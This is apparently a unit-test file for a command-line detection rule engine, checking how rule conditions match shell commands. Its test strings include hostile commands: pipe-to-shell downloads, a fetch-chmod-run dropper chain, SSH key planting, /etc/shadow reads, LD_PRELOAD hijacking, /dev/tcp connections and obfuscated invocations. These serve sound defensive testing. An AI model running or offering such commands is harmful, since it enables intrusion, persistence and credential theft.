// The meaning of each key and of each form of a value.
#include "match/predicate.hpp"
#include "support/events.hpp"

#include <rulehost/rule_reader.hpp>

#include <boost/json/parse.hpp>
#include <boost/test/unit_test.hpp>

#include <map>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

namespace rulehost {

namespace {

rule_lists some_lists() {
    rule_lists lists;
    auto const add = [&](std::string name, std::string_view values) {
        lists[name] = {name, boost::json::parse(values).as_array(), "lists.yaml", 1};
    };
    add("shells", R"(["{,ba,da,a,z,k}sh"])");
    add("interpreters", R"(["$shells", "python", "perl"])");
    add("staging", R"(["/tmp/", "/var/tmp/", "/dev/shm/"])");
    add("numbers", R"([1, 2])");
    return lists;
}

/// A compiled condition, with the objects that it refers to.
struct ready_condition {
    std::shared_ptr<rule_definition const> rule;
    std::unique_ptr<predicate> asked;
};

ready_condition const& ready(std::string_view match) {
    static std::map<std::string, ready_condition, std::less<>> known;
    auto const found = known.find(match);
    if (found != known.end())
        return found->second;
    auto const text = "rule_id: R1\nname: a rule\napplies_to: [command]\nmatch: " + std::string(match) +
        "\nemits: [{technique_id: T1105, tactic: TA0011, confidence: 0.9}]\n";
    auto documents = read_rules(text, "a.yaml", some_lists());
    for (auto const& each : documents.at(0).diagnostics)
        BOOST_TEST_MESSAGE(to_text(each));
    if (!documents.at(0).definition)
        throw std::runtime_error("no rule: " + text);
    std::uint32_t tests = 0;
    ready_condition made{documents.at(0).definition, nullptr};
    made.asked = std::make_unique<predicate>(made.rule->match, "command", tests);
    return known.emplace(match, std::move(made)).first->second;
}

truth outcome_of(std::string_view match, std::string_view line) {
    auto const e = test::command(line);
    subject on;
    on.look_at(e, 64 * 1024);
    match_detail found;
    return ready(match).asked->test(on, found);
}

void check(std::string_view match, std::vector<std::string_view> const& hits,
           std::vector<std::string_view> const& misses) {
    for (auto const line : hits)
        BOOST_TEST((outcome_of(match, line) == truth::yes), match << " should hold for: " << line);
    for (auto const line : misses)
        BOOST_TEST((outcome_of(match, line) == truth::no), match << " should not hold for: " << line);
}

/// One map of `command`.
void check_command(std::string_view command, std::vector<std::string_view> const& hits,
                   std::vector<std::string_view> const& misses) {
    check("{command: " + std::string(command) + "}", hits, misses);
}

} // namespace

BOOST_AUTO_TEST_SUITE(conditions_on_commands)

BOOST_AUTO_TEST_CASE(list_of_maps_holds_when_one_of_them_does) {
    check_command("[{program: wget}, {program: curl, option: -o}]", {"wget http://a/b", "curl -o x http://a/b"},
                  {"curl http://a/b", "echo wget"});
}

BOOST_AUTO_TEST_CASE(keys_of_one_map_are_about_one_command) {
    check_command("{program: rm, option: -r}", {"rm -rf /x", "ls; rm -r x"}, {"rm x; ls -r", "ls -r | rm x"});
}

BOOST_AUTO_TEST_CASE(keys_of_one_map_are_about_one_reading) {
    check_command("{program: cat, operand: '$NONE', operands: {at_least: 1}}", {"cat $NONE"}, {"cat x"});
    check_command("{program: cat, operands: none, operand: '$NONE'}", {}, {"cat $NONE"});
}

BOOST_AUTO_TEST_CASE(two_conditions_may_be_met_by_two_commands_in_either_order) {
    check("{all_of: [{command: {program: wget}}, {command: {program: chmod}}]}",
          {"wget a; chmod x b", "chmod x b; wget a"}, {"wget a", "chmod x b"});
}

BOOST_AUTO_TEST_CASE(not_means_no_command_of_any_reading) {
    check("{not: {command: {program: sh}}}", {"ls; id"}, {"ls; sh", "echo c2g= | base64 -d | sh"});
    check("{all_of: [{command: {program: ls}}, {not: {command: {program: ls, operand: $staging}}}]}", {"ls /home"},
          {"ls /home; ls /tmp/"});
}

BOOST_AUTO_TEST_CASE(conditions_combine_with_those_on_text) {
    check("{any_of: [{command: {program: wget}}, {pattern: 'sec.et'}]}", {"wget a", "echo secret"}, {"ls"});
}

BOOST_AUTO_TEST_CASE(program_is_what_is_run_behind_every_wrapper) {
    check_command("{program: wget}",
                  {"wget a", "/usr/bin/wget a", "sudo -u root wget a", "busybox wget a", "nohup wget a &",
                   "env A=1 wget a", "timeout 5 wget a", "x=wg; ${x}et a", "w'g'et a", "sh -c 'wget a'"},
                  {"curl a", "echo wget", "wget2x a"});
}

BOOST_AUTO_TEST_CASE(program_is_known_by_its_family_too) {
    check_command("{program: python}", {"python x.py", "python3 x.py", "python3.11 x.py"}, {"pythonista x.py"});
    check_command("{program: nc}", {"nc -l 1", "ncat -l 1"}, {"socat a b"});
    check_command("{program: python3.11}", {"python3.11 x.py"}, {"python3.12 x.py"});
    check_command("{program: {not: python}, operands: some}", {"perl x.pl"}, {"python3.11 -m http.server"});
}

BOOST_AUTO_TEST_CASE(script_is_a_command_of_its_own) {
    check_command("{program: x.py, via: python3}", {"python3 /opt/x.py a"}, {"/opt/x.py"});
    check_command("{program: x.py, operand: a}", {"python3 /opt/x.py a"}, {"python3 a /opt/x.py"});
}

BOOST_AUTO_TEST_CASE(via_is_a_wrapper_that_it_was_reached_through) {
    check_command("{via: sudo, program: id}", {"sudo id", "sudo -u x id", "sudo sh -c id"}, {"id", "sudo ls; id"});
    check_command("{via: ssh, program: id}", {"ssh root@10.0.0.1 id"}, {"ssh root@10.0.0.1; id"});
    check_command("{via: [su, sh], program: id}", {"su root -c id", "sh -c id", "echo id | sh"}, {"id"});
    check_command("{via: {not: [sudo, sh]}, program: id}", {"id", "nohup id"}, {"sudo id"});
    check_command("{via: docker, program: id}", {"docker exec -it box id"}, {"docker ps; id"});
    check_command("{via: find, program: rm}", {"find / -name x -exec rm {} \\;"}, {"find / -name x; rm x"});
}

BOOST_AUTO_TEST_CASE(wrapper_matches_only_conditions_that_name_it) {
    check_command("{program: sudo, option: -S}", {"echo x | sudo -S id"}, {"sudo id"});
    check_command("{program: {not: tee}, writes: /etc/passwd}", {"cat x > /etc/passwd"},
                  {"sudo tee /etc/passwd", "sudo tee x > /dev/null", "sudo tee x > /etc/passwd"});
    check_command("{reads: /proc/1/environ}", {"xargs -a /proc/1/environ ls"}, {"xargs ls /proc/1/environ"});
    check_command("{writes: /tmp/x}", {"sudo id > /tmp/x", "su -c id > /tmp/x"}, {"sudo id"});
}

BOOST_AUTO_TEST_CASE(option_is_named_alone_or_in_a_cluster) {
    check_command("{program: rm, option: -f}", {"rm -f x", "rm -rf x", "rm -r -f x"}, {"rm f", "rm -- -f"});
    check_command("{program: tar, option: [-x, -c]}", {"tar -xzf a", "tar -cf a b"}, {"tar -tf a"});
    check_command("{program: kill, option: -31}", {"kill -31 5"}, {"kill -3 1"});
}

BOOST_AUTO_TEST_CASE(option_is_its_long_twin) {
    check_command("{program: rm, option: -r}", {"rm --recursive x"}, {});
    check_command("{program: rm, option: --recursive}", {"rm -rf x"}, {"rm -f x"});
    check_command("{program: cut, option: {-d: ':'}}", {"cut -d: -f1 x", "cut -d : -f1 x", "cut --delimiter=: x"},
                  {"cut -d, -f1 x"});
}

BOOST_AUTO_TEST_CASE(option_by_value_whether_it_is_attached_or_not) {
    check_command("{program: curl, option: {-X: DELETE}}",
                  {"curl -X DELETE a", "curl -XDELETE a", "curl --request DELETE a", "curl --request=DELETE a"},
                  {"curl -X GET a", "curl DELETE"});
}

BOOST_AUTO_TEST_CASE(options_of_one_map_are_all_there) {
    check_command("{program: socat, option: {-T: '1', -b: '2'}}", {}, {"socat -T 1 a"});
    check_command("{program: curl, option: {-X: POST, -H: '*json*'}}", {"curl -H 'a: json' -X POST b"},
                  {"curl -X POST b", "curl -H 'a: json' b"});
    check_command("{program: strace, option: {-p: '*', -e: ['*read*', '*write*']}}", {"strace -e write -p 1"},
                  {"strace -p 1", "strace -p 1 -e open"});
}

BOOST_AUTO_TEST_CASE(options_combine) {
    check_command("{program: crontab, option: {not: [-l, -r]}}", {"crontab x", "crontab -e"}, {"crontab -l"});
    check_command("{program: gcc, option: {all: [-shared, -fPIC]}}", {"gcc -fPIC x.c -shared"}, {"gcc -shared x.c"});
    check_command("{program: rm, option: {all: [[-r, -R], -f]}}", {"rm -R -f x", "rm -rf x"}, {"rm -f x", "rm -r x"});
    check_command("{program: unshare, option: [{all: [-r, -m]}, --map-root-user]}",
                  {"unshare -rm sh", "unshare --map-root-user sh"}, {"unshare -m sh"});
    check_command("{program: x, option: '--{vm,hdd}*'}", {"x --vm-bytes 1", "x --hdd 1"}, {"x --cpu 1"});
    check_command("{program: msfvenom, option: '*'}", {"msfvenom -p x"}, {"msfvenom"});
    check_command("{program: ab, option: {-n: {at_least: 1000}}}", {"ab -n 1000 x", "ab -n5000 x"}, {"ab -n 10 x"});
}

BOOST_AUTO_TEST_CASE(operand_is_neither_an_option_nor_its_value) {
    check_command("{program: curl, operand: x}", {"curl x", "curl -s x"}, {"curl -o x http://a"});
    check_command("{program: ls, operand: -l}", {"ls -- -l"}, {"ls -l"});
}

BOOST_AUTO_TEST_CASE(operand_is_as_typed_or_without_detours) {
    check_command("{program: cat, operand: /etc/passwd}",
                  {"cat /etc//passwd", "cat /etc/./passwd", "cat /x/../etc/passwd"}, {"cd /etc; cat passwd"});
    check_command("{program: cat, operand: /etc//passwd}", {"cat /etc//passwd"}, {"cat /etc/passwd"});
}

BOOST_AUTO_TEST_CASE(argument_is_any_word_after_the_program) {
    check_command("{program: find, argument: -delete}", {"find / -delete"}, {"find / -name x"});
    check_command("{argument: -l}", {"x -l", "y -- -l"}, {"-l"});
}

BOOST_AUTO_TEST_CASE(operands_and_arguments_are_counted) {
    check_command("{program: w, operands: none}", {"w", "w -h"}, {"w x"});
    check_command("{program: w, operands: some}", {"w x"}, {"w", "w -h"});
    check_command("{program: w, arguments: none}", {"w"}, {"w x", "w -h"});
    check_command("{program: w, arguments: some}", {"w -h"}, {"w"});
    check_command("{program: w, operands: {at_least: 2, at_most: 3}}", {"w a b", "w a b c"}, {"w a", "w a b c d"});
    check_command("{program: w, operands: {at_most: 1}}", {"w", "w a"}, {"w a b"});
}

BOOST_AUTO_TEST_CASE(subcommand_is_the_first_operands_in_their_places) {
    check_command("{program: aws, subcommand: 'iam create-{user,role}'}",
                  {"aws iam create-user --user-name x", "aws --profile iam iam create-role x"},
                  {"aws iam", "aws create-user iam", "aws s3 iam create-user"});
    check_command("{program: chkconfig, subcommand: '* on'}", {"chkconfig x on"}, {"chkconfig on", "chkconfig a b on"});
    check_command("{program: pw, subcommand: [useradd, user add]}", {"pw useradd x", "pw user add x"},
                  {"pw user del x"});
    check_command("{program: modprobe, subcommand: {not: $staging}}", {"modprobe x"}, {});
    check_command("{program: ip, subcommand: {not: [route, 'addr show']}}", {"ip link", "ip addr add x"},
                  {"ip route", "ip addr show"});
}

BOOST_AUTO_TEST_CASE(variables_are_set_in_front_by_env_by_export_or_alone) {
    check_command("{sets: {'LD_{PRELOAD,AUDIT}': '?*'}}",
                  {"LD_PRELOAD=/x.so ls", "env LD_AUDIT=/x.so ls", "sudo LD_PRELOAD=/x.so ls",
                   "export LD_PRELOAD=/x.so", "LD_PRELOAD=/x.so"},
                  {"LD_PRELOAD= ls", "echo LD_PRELOAD=/x.so", "LD_LIBRARY_PATH=/x ls"});
    check_command("{sets: {A: '1', B: '2'}}", {"A=1 B=2 ls"}, {"A=1 ls", "A=1 B=3 ls"});
    check_command("{program: ls, sets: {A: '*'}}", {"A=1 ls", "env A=1 ls"}, {"A=1; ls", "A=1 cat; ls"});
    check_command("{sets: {path: '*'}, ignore_case: true}", {"PATH=x ls"}, {"HOME=x ls"});
}

BOOST_AUTO_TEST_CASE(data_is_what_it_prints_or_gets) {
    check_command("{data: '*secret*'}",
                  {"echo a secret", "printf 'a secret\\n'", "cat <<E\na secret\nE", "cat <<< 'a secret'"},
                  {"cat secret"});
    check_command("{program: chpasswd, data: 'root:*'}", {"echo root:x | chpasswd", "chpasswd <<< root:x"},
                  {"echo root:x; chpasswd"});
    check_command("{writes: '*authorized_keys', data: 'ssh-{rsa,ed25519} AAAA*'}",
                  {"echo 'ssh-rsa AAAAB3 x' >> ~/.ssh/authorized_keys",
                   "cat > ~/.ssh/authorized_keys <<E\n# mine\nssh-rsa AAAAB3\nE"},
                  {"echo hello >> ~/.ssh/authorized_keys"});
}

BOOST_AUTO_TEST_CASE(data_is_there_or_not) {
    check_command("{program: crontab, data: some}", {"echo x | crontab", "cat y | crontab -", "crontab < y"},
                  {"crontab -e"});
    check_command("{program: crontab, data: none}", {"crontab -e"}, {"echo x | crontab"});
    check_command("{program: echo, data: some}", {"echo x"}, {});
}

BOOST_AUTO_TEST_CASE(effects_come_from_redirects_and_programs) {
    check_command("{writes: /etc/cron.d/x}",
                  {"echo a > /etc/cron.d/x", "echo a >> /etc/cron.d/x", "tee /etc/cron.d/x", "cp a /etc/cron.d/x",
                   "mv a /etc/cron.d/x", "install a /etc/cron.d/x", "dd of=/etc/cron.d/x",
                   "wget -O /etc/cron.d/x http://a", "sed -i s/a/b/ /etc/cron.d/x", "ln -s a /etc/cron.d/x",
                   "(echo a; echo b) > /etc/cron.d/x"},
                  {"cat /etc/cron.d/x", "echo a > /etc/cron.d/y"});
    check_command("{appends: '*'}", {"echo a >> b", "tee -a b"}, {"echo a > b"});
    check_command("{empties: /var/log/x}", {"> /var/log/x", "truncate -s 0 /var/log/x", "cp /dev/null /var/log/x"},
                  {"echo >> /var/log/x"});
    check_command("{reads: /etc/shadow}", {"cat /etc/shadow", "cat < /etc/shadow", "cp /etc/shadow x"},
                  {"echo x > /etc/shadow", "echo /etc/shadow"});
    check_command("{deletes: '*.log'}", {"rm -f /x/a.log", "unlink a.log", "find /x -name a.log -delete"},
                  {"ls a.log"});
    check_command("{makes_executable: '*'}", {"chmod +x a", "chmod 755 a", "install -m 755 a b"}, {"chmod -x a"});
    check_command("{runs: /tmp/a}", {"/tmp/a", "sh /tmp/a", "cd /tmp; ./a", "nohup /tmp/a &"}, {"cat /tmp/a", "a"});
    check_command("{program: unknown, writes: '*'}", {"unknown > b"}, {"unknown b"});
}

BOOST_AUTO_TEST_CASE(paths_are_joined_with_cd) {
    check_command("{writes: /etc/passwd}", {"cd /etc; echo x > passwd", "cd /etc && tee passwd"}, {"echo x > passwd"});
}

BOOST_AUTO_TEST_CASE(glob_without_a_slash_is_about_the_base_name) {
    check_command("{reads: known_hosts}", {"cat /root/.ssh/known_hosts", "cat known_hosts"}, {"cat known_hosts.old"});
    check_command("{writes: '*.{php,jsp}'}", {"echo x > /var/www/a.php", "cp x a.jsp"}, {"echo x > /var/www/a.php/b"});
}

BOOST_AUTO_TEST_CASE(glob_that_ends_in_a_slash_is_the_directory_and_all_below_it) {
    check_command("{writes: /tmp/}", {"touch_ > /tmp/a", "x > /tmp/a/b/c", "cp a /tmp/"},
                  {"x > /tmpa", "x > /a/tmp/b"});
    check_command("{deletes: /tmp/}", {"rm -r /tmp", "rm -r /tmp/", "rm /tmp/a/b"}, {"rm /tmp2"});
    check_command("{writes: 'htdocs/'}", {"x > /srv/htdocs/a", "x > htdocs/b"}, {"x > /srv/htdocs2/a"});
    check_command("{writes: '/etc/{cron,rc}*.d/'}", {"x > /etc/cron.d/a", "x > /etc/rc3.d/a"}, {"x > /etc/init.d/a"});
    check_command("{deletes: /}", {"rm -rf /"}, {"rm -rf /tmp"});
}

BOOST_AUTO_TEST_CASE(home_is_a_tilde) {
    check_command("{writes: '~/.bashrc'}", {"echo x >> ~/.bashrc", "echo x >> $HOME/.bashrc"}, {"echo x > .bashrc"});
    check_command("{writes: '$HOME/.bashrc'}", {"echo x >> ~/.bashrc", "echo x >> $HOME/.bashrc"}, {});
}

BOOST_AUTO_TEST_CASE(variable_that_nothing_sets_stays_in_one_reading_and_is_empty_in_the_other) {
    check_command("{deletes: '$X/a'}", {"rm $X/a", "rm ${X}/a"}, {"X=/b; rm $X/a"});
    check_command("{deletes: /a}", {"rm $X/a", "rm ${X}/a"}, {"X=/b; rm $X/a"});
}

BOOST_AUTO_TEST_CASE(file_is_any_path_that_it_names) {
    check_command(
        "{file: /var/log/}",
        {"chattr +i /var/log/a", "x --out=/var/log/a", "dd if=/var/log/a", "x > /var/log/a", "cd /var/log; ls a"},
        {"ls /var/lib"});
}

BOOST_AUTO_TEST_CASE(urls_are_as_typed) {
    check_command("{fetches: 'http://*/x.sh'}", {"wget http://a.b/x.sh", "curl -s http://a.b/x.sh | sh"},
                  {"wget http://a.b/y.sh", "echo http://a.b/x.sh"});
    check_command("{sends: '*:/tmp/*'}", {"scp a root@b:/tmp/x"}, {"scp root@b:/tmp/x a"});
}

BOOST_AUTO_TEST_CASE(remote_ends_have_their_port_filled_in) {
    check_command("{connects: '10.0.0.1:80*'}",
                  {"curl http://10.0.0.1/x", "wget http://u@10.0.0.1:80/x", "cat < /dev/tcp/10.0.0.1/80"},
                  {"curl https://10.0.0.1/x", "ping 10.0.0.1"});
    check_command("{connects: {cidr: [10.0.0.0/8, '2001:db8::/32']}}", {"curl http://10.1.2.3/x", "nc 10.1.2.3 4444"},
                  {"curl http://11.1.2.3/x", "curl http://a/10.1.2.3"});
}

BOOST_AUTO_TEST_CASE(place_is_the_line_or_any_that_encloses_it) {
    check_command("{program: id, place: line}", {"id", "ls; id | cat"}, {"x=$(id)", "for i in a; do id; done"});
    check_command("{program: id, place: echo}", {"echo $(id)", "echo `id`"}, {"printf %s $(id)", "id"});
    check_command("{program: id, place: loop}",
                  {"for i in a b; do id $i; done", "while true; do id; done", "ls | xargs id", "find / -exec id \\;"},
                  {"id"});
    check_command("{program: id, place: function}", {"f() { id; }; f", "f() { id; }"}, {"id"});
    check_command("{program: id, place: hook}", {"trap id EXIT"}, {"id"});
    check_command("{program: id, place: decoded}", {"echo aWQK | base64 -d | sh"}, {"id"});
    check_command("{program: id, place: [loop, curl]}", {"for i in a; do echo $(id); done", "curl http://a/$(id)"},
                  {"echo $(id)"});
}

BOOST_AUTO_TEST_CASE(neighbours_in_the_pipeline_may_have_others_between) {
    check_command("{program: ps, piped_to: {program: grep}}", {"ps | grep x", "ps | sort | grep x"},
                  {"ps; grep x", "grep x | ps", "ps"});
    check_command("{program: sh, piped_from: {fetches: '*'}}", {"curl http://a/b | sh", "curl http://a/b | tee c | sh"},
                  {"sh | curl http://a/b", "curl http://a/b; sh"});
    check_command("{program: ps, piped_to: [{program: awk}, {program: grep}]}", {"ps | awk x", "ps | grep x"},
                  {"ps | sort"});
    check_command("{program: ps, piped_to: {not: {program: grep}}}", {"ps", "ps | sort"}, {"ps | grep x"});
    check_command("{program: ps, piped_to: {not: [{program: grep, operand: nginx}, {program: awk}]}}", {"ps | grep x"},
                  {"ps | grep nginx", "ps | awk x"});
    check_command("{program: ps, piped_to: {program: grep}}", {"(ls; ps) | grep x", "for i in a; do ps; done | grep x"},
                  {});
}

BOOST_AUTO_TEST_CASE(text_is_of_the_command_after_folding) {
    check_command("{text: '*pam_tty_audit.so*'}", {"echo pam_tty_a''udit.so > x", "ls; grep pam_tty_audit.so"}, {"ls"});
    check_command("{text: {pattern: 'ab+c'}}", {"echo abbc", "echo a'bb'c"}, {"echo ac"});
    check_command("{text: 'echo a*c'}", {"echo a; echo ab; echo a c"}, {"echo a; echo c"});
}

BOOST_AUTO_TEST_CASE(text_is_of_the_command_as_typed_too) {
    check_command("{text: '*\\$IFS*'}", {"cat$IFS/etc/hosts", "ls; cat$IFS/etc/hosts"}, {"cat /etc/hosts; echo"});
    check_command("{text: {pattern: '^\\{'}}", {"{cat,/etc/hosts}", "id && {cat,/etc/hosts}"}, {"cat {a,b}"});
    check_command("{program: id, text: \"*''*\"}", {"i''d", "sudo i''d"}, {"id; l''s", "l''s; id"});
    check_command("{program: rm, text: '*\\$x*'}", {"rm $x/a", "x=1; rm $x"}, {"x=1; rm 1; echo $x"});
    check_command("{program: sh, text: '!*'}", {"!/bin/sh", "less x; !sh", "!exec sh"}, {"/bin/sh", "! /bin/sh"});
}

BOOST_AUTO_TEST_CASE(letter_case_is_ignored_for_all_values_of_a_map) {
    check_command("{program: [Remove-Item], operand: '*.TXT', ignore_case: true}", {"remove-item a.txt"}, {"x a.txt"});
    check_command("{program: x, operand: {pattern: abc}, ignore_case: true}", {"X ABC"}, {"X AB"});
    check_command("{program: x, operand: '[A-C]', ignore_case: true}", {"x a", "x B"}, {"x d"});
    check_command("[{program: x, ignore_case: true}, {program: y}]", {"X", "y"}, {"Y"});
}

BOOST_AUTO_TEST_CASE(glob_is_over_the_whole_value) {
    check_command("{program: x, operand: 'a*c'}", {"x abc", "x a/b/c", "x 'a\nc'", "x ac"}, {"x abcd", "x xabc"});
    check_command("{program: x, operand: 'a?c'}", {"x abc", "x a/c", "x aéc"}, {"x ac", "x abbc"});
    check_command("{program: x, operand: '[a-c][!0-9]'}", {"x ax"}, {"x a1", "x dx"});
    check_command("{program: x, operand: '{a,b{c,d}}e'}", {"x ae", "x bce", "x bde"}, {"x be", "x abe"});
    check_command("{program: x, operand: 'a b'}", {"x 'a b'", "x 'a  \t b'"}, {"x ab", "x a b"});
    check_command("{program: x, operand: 'a\\*'}", {"x 'a*'"}, {"x ab"});
    check_command("{program: x, operand: 'a[*]'}", {"x 'a*'"}, {"x ab"});
    check_command("{program: x, operand: '*a{b'}", {"x 'za{b'"}, {"x ab"});
    check_command("{program: x, operand: ''}", {"x ''"}, {"x", "x a"});
    check_command("{program: x, operand: 5}", {"x 5"}, {"x 6"});
    check_command("{program: x, operand: '*b*b*'}", {"x abab"}, {"x ab"});
    check_command("{program: x, operand: '*b?'}", {"x abbc"}, {"x bcc", "x b"});
}

BOOST_AUTO_TEST_CASE(values_combine) {
    check_command("{program: x, operand: {not: [a, b]}}", {"x", "x c"}, {"x a", "x c b"});
    check_command("{program: x, operand: {all: ['a*', ['*b', '*c']]}}", {"x ab", "x a c", "x zb a"}, {"x a", "x b"});
    check_command("{program: x, operand: {any: '/tmp/*', except: '*.log'}}", {"x /tmp/a", "x /tmp/a.log /tmp/b"},
                  {"x /tmp/a.log", "x b"});
    check_command("{program: x, operand: {pattern: '^a+$'}}", {"x aa"}, {"x ab"});
    check_command("{program: x, operand: {at_least: 10, at_most: 20}}", {"x 10", "x 15.5"}, {"x 9", "x 21", "x ten"});
    check_command("{program: x, operand: {cidr: 10.0.0.0/8}}", {"x 10.9.8.7", "x 10.9.8.7:80"}, {"x 11.0.0.1", "x a"});
    check_command("{program: x, operand: [[a, [b]], {not: [c, d]}]}", {"x a", "x c b", "x e"}, {"x c"});
    check_command("{program: x, operand: {not: {any: '-*', except: -v}}}", {"x", "x -- -v"}, {"x -- -a"});
}

BOOST_AUTO_TEST_CASE(lists_are_opened_where_they_are_named) {
    check_command("{program: $interpreters, operands: some}", {"bash x", "perl x", "python3 x"}, {"ruby x"});
    check_command("{program: [$shells, exec], reads: $staging}", {"sh < /tmp/x"}, {"ls < /tmp/x"});
    check_command("{program: x, operand: $numbers}", {"x 2"}, {"x 3"});
    check_command("{program: x, operand: '$HOME_DIR'}", {"x '$HOME_DIR'"}, {"x a"});
    check_command("{program: x, operand: '[$]shells'}", {"x '$shells'"}, {"x sh"});
    BOOST_TEST((ready("{command: {program: $interpreters}}").rule->lists ==
                std::vector<std::string>{"interpreters", "shells"}));
    BOOST_TEST(!ready("{command: {program: $interpreters}}").rule->lists_hash.empty());
    BOOST_TEST(ready("{command: {program: x}}").rule->lists_hash.empty());
}

BOOST_AUTO_TEST_CASE(commands_in_order_may_have_others_between) {
    check("{commands_in_order: [{program: a}, {program: b}]}", {"a; b", "a; c; b", "b; a; b"}, {"b; a", "a", "b"});
    check("{commands_in_order: [[{program: a}, {program: b}], {program: c}]}", {"a; c", "b; c"}, {"c; a"});
    check("{commands_in_order: [{program: a}, {program: a}]}", {"a; a"}, {"a"});
}

BOOST_AUTO_TEST_CASE(commands_in_order_are_about_one_file) {
    constexpr auto dropper = "{commands_in_order: [{fetches: '*'}, {makes_executable: '*'}, {runs: '*'}], same: file}";
    check(dropper,
          {"wget http://a/x; chmod +x x; ./x", "cd /tmp; wget http://a/x; chmod 777 /tmp/x; /tmp/x",
           "curl -o /tmp/x http://a/y && chmod +x /tmp/x && /tmp/x", "curl http://a/x > y; chmod +x y; ./y",
           "wget http://a/x; mv x y; chmod +x y; ./y", "wget http://a/x -O- | cat > y; chmod +x y; sh y",
           "wget http://a/x; cat x > y; chmod +x y; ./y", "wget http://a/x; chmod +x *; ./x",
           "wget http://a/u; wget http://a/x; chmod +x x; ./x"},
          {"wget http://a/x; chmod +x y; ./y", "wget http://a/x; chmod +x x; ./y", "chmod +x x; wget http://a/x; ./x",
           "wget http://a/x; ./x"});
    check("{commands_in_order: [{program: gcc, writes: '*'}, {runs: '*'}], same: file}",
          {"gcc -o x x.c; ./x", "cd /tmp && gcc y.c -o x && /tmp/x"}, {"gcc -o x x.c; ./y"});
}

BOOST_AUTO_TEST_CASE(other_events_hold_no_commands) {
    auto const e = test::make_event("http_request", R"({"command_text": "wget a", "raw_url": "wget a"})");
    subject on;
    on.look_at(e, 64 * 1024);
    match_detail found;
    BOOST_TEST((ready("{command: {program: wget}}").asked->test(on, found) == truth::no));
}

BOOST_AUTO_TEST_CASE(outcome_names_the_command_and_its_reading) {
    auto const e = test::command("ls; wg''et http://a/b > c");
    subject on;
    on.look_at(e, 64 * 1024);
    match_detail found;
    BOOST_TEST((ready("{command: {program: wget}}").asked->test(on, found) == truth::yes));
    BOOST_TEST(found.command == "wget http://a/b >c");
    BOOST_TEST(found.reading == "unfolded");
}

BOOST_AUTO_TEST_SUITE_END()

} // namespace rulehost
